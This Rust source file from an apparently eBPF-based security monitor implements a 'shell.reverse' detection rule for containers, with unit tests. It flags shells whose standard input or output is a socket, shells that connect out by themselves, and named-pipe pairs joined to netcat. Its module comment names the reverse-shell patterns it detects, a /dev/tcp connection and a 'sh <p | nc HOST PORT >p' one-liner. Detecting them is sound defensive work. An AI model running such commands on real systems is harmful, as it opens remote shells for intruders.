//! Shells that the network types into.
//!
//! | how | seen by |
//! | --- | --- |
//! | its standard input or output is a socket of IPv4 or IPv6 | the exec |
//! | it connects by itself, as `bash` does for `/dev/tcp/HOST/PORT` | the connection |
//! | it reads from one pipe and writes to another, and a process that holds the other ends connects (`sh <p | nc HOST PORT >p`) | the two together |

use std::num::NonZeroUsize;

use lru::LruCache;
use watchkeeper_ebpf::record::descriptor;

use super::said::Said;
use crate::{
    event::{Detail, Event},
    process::execution::Process,
    proto::v1::{self, EventKind},
};

const RULE: &str = "shell.reverse";
/// Pipes that are remembered.
const PIPES: NonZeroUsize = NonZeroUsize::new(2_048).expect("not zero");

/// A container, and the inode of a pipe.
type Pipe = (u32, u64);

/// See the module.
#[derive(Debug)]
pub struct ReverseShells {
    /// Shells by the pipe that they write to.
    shells: LruCache<Pipe, Remembered>,
    /// Processes with a connection, by the pipe that they read from.
    connected: LruCache<Pipe, Remembered>,
}

#[derive(Debug)]
struct Remembered {
    exe: String,
    pid: u32,
    /// Where its connection leads; empty for a shell.
    remote: String,
    number: u64,
}

impl Default for ReverseShells {
    fn default() -> Self {
        Self {
            shells: LruCache::new(PIPES),
            connected: LruCache::new(PIPES),
        }
    }
}

impl ReverseShells {
    /// Looks at an event.
    pub fn observe(&mut self, event: &Event, number: u64) -> Option<Said> {
        let slot = event.container()?.slot;
        let process = event.process.as_deref()?;
        match (&event.detail, event.detail.kind()) {
            (Detail::Exec, _) => self.exec(event, process, slot, number),
            (Detail::Message(_, detail), EventKind::Connect | EventKind::Accept) => {
                let v1::event::Detail::Connection(connection) = &**detail else {
                    return None;
                };
                self.connected(event, process, connection, slot, number)
            }
            _ => None,
        }
    }

    fn exec(&mut self, event: &Event, process: &Process, slot: u32, number: u64) -> Option<Said> {
        let shell = process.program.shell()?;
        let [stdin, stdout, _] = &process.program.stdio;
        let by_socket: Vec<&str> = [(stdin, "input"), (stdout, "output")]
            .into_iter()
            .filter(|(descriptor, _)| descriptor.kind == descriptor::INET_SOCKET)
            .map(|(_, name)| name)
            .collect();
        if !by_socket.is_empty() {
            let message = format!(
                "{} ({}) has a network connection as its standard {}",
                process.program.exe,
                shell.family,
                by_socket.join(" and ")
            );
            return Some(said(event, process, "socket", message));
        }
        if !is_redirected(event, process) {
            return None;
        }
        let pipe = (slot, stdout.inode);
        if let Some(peer) = self.connected.get(&pipe) {
            let message = format!(
                "{} ({}) is fed through pipes by {} (pid {}), which is connected to {}",
                process.program.exe, shell.family, peer.exe, peer.pid, peer.remote
            );
            let mut said = said(event, process, "pipes", message);
            said.facts.insert("peer", peer.exe.clone());
            said.facts.insert("remote", peer.remote.clone());
            said.evidence.push(peer.number);
            return Some(said);
        }
        self.shells.put(
            pipe,
            Remembered {
                exe: process.program.exe.clone(),
                pid: process.key.pid,
                remote: String::new(),
                number,
            },
        );
        None
    }

    fn connected(
        &mut self,
        event: &Event,
        process: &Process,
        connection: &v1::Connection,
        slot: u32,
        number: u64,
    ) -> Option<Said> {
        let is_outbound = event.detail.kind() == EventKind::Connect;
        if connection.protocol() == v1::Protocol::Unix {
            return None;
        }
        // The shells of multi-call binaries run their other applets without a new program.
        if is_outbound
            && let Some(shell) = process.program.shell()
            && !shell.family.contains(' ')
        {
            let remote = remote(connection);
            let message = format!(
                "{} ({}) itself connects to {remote}",
                process.program.exe, shell.family
            );
            let mut said = said(event, process, "connection", message);
            said.facts.insert("remote", remote);
            return Some(said);
        }
        if connection.outcome() == v1::Outcome::Failed || !is_redirected(event, process) {
            return None;
        }
        let remote = remote(connection);
        let pipe = (slot, process.program.stdio[0].inode);
        if let Some(shell) = self.shells.get(&pipe) {
            let message = format!(
                "{} (pid {}) is fed through pipes by {}, which is connected to {remote}",
                shell.exe, shell.pid, process.program.exe
            );
            let mut said = said(event, process, "pipes", message);
            said.facts.insert("shell", shell.exe.clone());
            said.facts.insert("remote", remote);
            said.evidence.push(shell.number);
            return Some(said);
        }
        self.connected.put(
            pipe,
            Remembered {
                exe: process.program.exe.clone(),
                pid: process.key.pid,
                remote,
                number,
            },
        );
        None
    }
}

fn said(event: &Event, process: &Process, how: &str, message: String) -> Said {
    let mut said = Said::of(RULE, event, message);
    said.facts.insert("how", how.to_owned());
    if let Some(shell) = process.program.shell() {
        said.facts.insert("shell", shell.family.clone());
    }
    said.claimed = vec!["process.argv"];
    said
}

/// Whether both its standard input and its output are pipes that its parent has not: whoever reads a script's output and sends it
/// somewhere keeps the output of the script's caller.
fn is_redirected(event: &Event, process: &Process) -> bool {
    let own = &process.program.stdio;
    let parent = event
        .ancestors
        .first()
        .map(|ancestor| &ancestor.process.program.stdio);
    [0, 1].into_iter().all(|number| {
        own[number].kind == descriptor::PIPE
            && parent.is_none_or(|parent| parent[number].inode != own[number].inode)
    })
}

fn remote(connection: &v1::Connection) -> String {
    let endpoint = connection.remote.clone().unwrap_or_default();
    let name = if connection.remote_name.is_empty() {
        &endpoint.address
    } else {
        &connection.remote_name
    };
    format!("{name} port {}", endpoint.port)
}

#[cfg(test)]
mod tests {
    use std::sync::{Arc, OnceLock};

    use watchkeeper_ebpf::record::Descriptor;

    use super::*;
    use crate::{
        container::{membership::Origin, model::Container, registry::Place, shape},
        event::Ancestor,
        process::execution::{ProcessKey, Recognised, Shell, tests::process},
    };

    fn container() -> Arc<Container> {
        let path = format!("/docker/{:064x}", 1);
        let shape = shape::recognise(&path).expect("a container's");
        Arc::new(Container::new(shape, path, 5, 1))
    }

    fn program(exe: &str, shell: Option<&str>, stdio: [(u32, u64); 2]) -> Process {
        let key = ProcessKey {
            pid: 7,
            start_ticks: 1,
        };
        let mut process = process(key, None, exe);
        let program = Arc::make_mut(&mut process.program);
        for (descriptor, (kind, inode)) in program.stdio.iter_mut().zip(stdio) {
            *descriptor = Descriptor {
                inode,
                kind,
                device: 0,
            };
        }
        program.recognised = OnceLock::from(shell.map_or(Recognised::Other, |family| {
            Recognised::Shell(Shell {
                family: family.to_owned(),
                recognised_by: "content".to_owned(),
                claimed: false,
            })
        }));
        process
    }

    fn event(process: Process, detail: Detail) -> Event {
        let parent = program(
            "/bin/bash",
            Some("bash"),
            [(descriptor::NULL, 1), (descriptor::PIPE, 2)],
        );
        Event {
            time: std::time::SystemTime::UNIX_EPOCH,
            process: Some(Arc::new(process)),
            origin: Some(Origin::Descendant),
            injected_by: None,
            ancestors: vec![Ancestor {
                process: Arc::new(parent),
                membership: None,
            }],
            place: Place::Container(container(), "/docker/x".into()),
            target: None,
            detail,
        }
    }

    fn connect() -> Detail {
        Detail::Message(
            EventKind::Connect,
            Box::new(v1::event::Detail::Connection(v1::Connection {
                protocol: v1::Protocol::Tcp.into(),
                outcome: v1::Outcome::Established.into(),
                remote: Some(v1::Endpoint {
                    address: "192.0.2.1".to_owned(),
                    port: 4_444,
                }),
                ..v1::Connection::default()
            })),
        )
    }

    const PIPE: u32 = descriptor::PIPE;

    #[test]
    fn a_socket_as_input_is_a_reverse_shell_whatever_the_shell_is_called() {
        let socket = (descriptor::INET_SOCKET, 9);
        let found = ReverseShells::default()
            .observe(
                &event(
                    program("/tmp/nginx", Some("bash"), [socket, socket]),
                    Detail::Exec,
                ),
                1,
            )
            .expect("found");
        assert!(
            found.message.contains("standard input and output"),
            "{}",
            found.message
        );
        // Between processes of the host: how some runtimes and sshd connect them.
        let local = (descriptor::SOCKET, 9);
        let other = event(
            program("/bin/sh", Some("bash"), [local, local]),
            Detail::Exec,
        );
        assert!(ReverseShells::default().observe(&other, 1).is_none());
        let no_shell = event(program("/bin/cat", None, [socket, socket]), Detail::Exec);
        assert!(ReverseShells::default().observe(&no_shell, 1).is_none());
    }

    #[test]
    fn a_shell_that_connects_by_itself_is_one() {
        let inherited = [(descriptor::NULL, 1), (PIPE, 2)];
        let found = ReverseShells::default()
            .observe(
                &event(program("/bin/bash", Some("bash"), inherited), connect()),
                1,
            )
            .expect("found");
        assert!(
            found.message.contains("192.0.2.1 port 4444"),
            "{}",
            found.message
        );
        let applet = event(
            program("/bin/busybox", Some("busybox sh"), inherited),
            connect(),
        );
        assert!(ReverseShells::default().observe(&applet, 1).is_none());
    }

    #[test]
    fn pipes_in_both_directions_make_one_in_either_order() {
        let shell = || {
            event(
                program("/bin/sh", Some("dash"), [(PIPE, 10), (PIPE, 11)]),
                Detail::Exec,
            )
        };
        let netcat = || {
            event(
                program("/bin/nc", None, [(PIPE, 11), (PIPE, 12)]),
                connect(),
            )
        };
        let mut shells = ReverseShells::default();
        assert!(shells.observe(&shell(), 1).is_none());
        let found = shells.observe(&netcat(), 2).expect("found");
        assert_eq!(found.evidence, [1]);
        let mut shells = ReverseShells::default();
        assert!(shells.observe(&netcat(), 1).is_none());
        assert!(shells.observe(&shell(), 2).is_some());
    }

    #[test]
    fn what_sends_a_scripts_output_away_is_none() {
        // `sh script | nc loghost 514`: nc's output is that of its caller.
        let mut shells = ReverseShells::default();
        let script = event(
            program("/bin/sh", Some("dash"), [(descriptor::NULL, 1), (PIPE, 11)]),
            Detail::Exec,
        );
        assert!(shells.observe(&script, 1).is_none());
        let netcat = event(program("/bin/nc", None, [(PIPE, 11), (PIPE, 2)]), connect());
        assert!(shells.observe(&netcat, 2).is_none());
    }
}
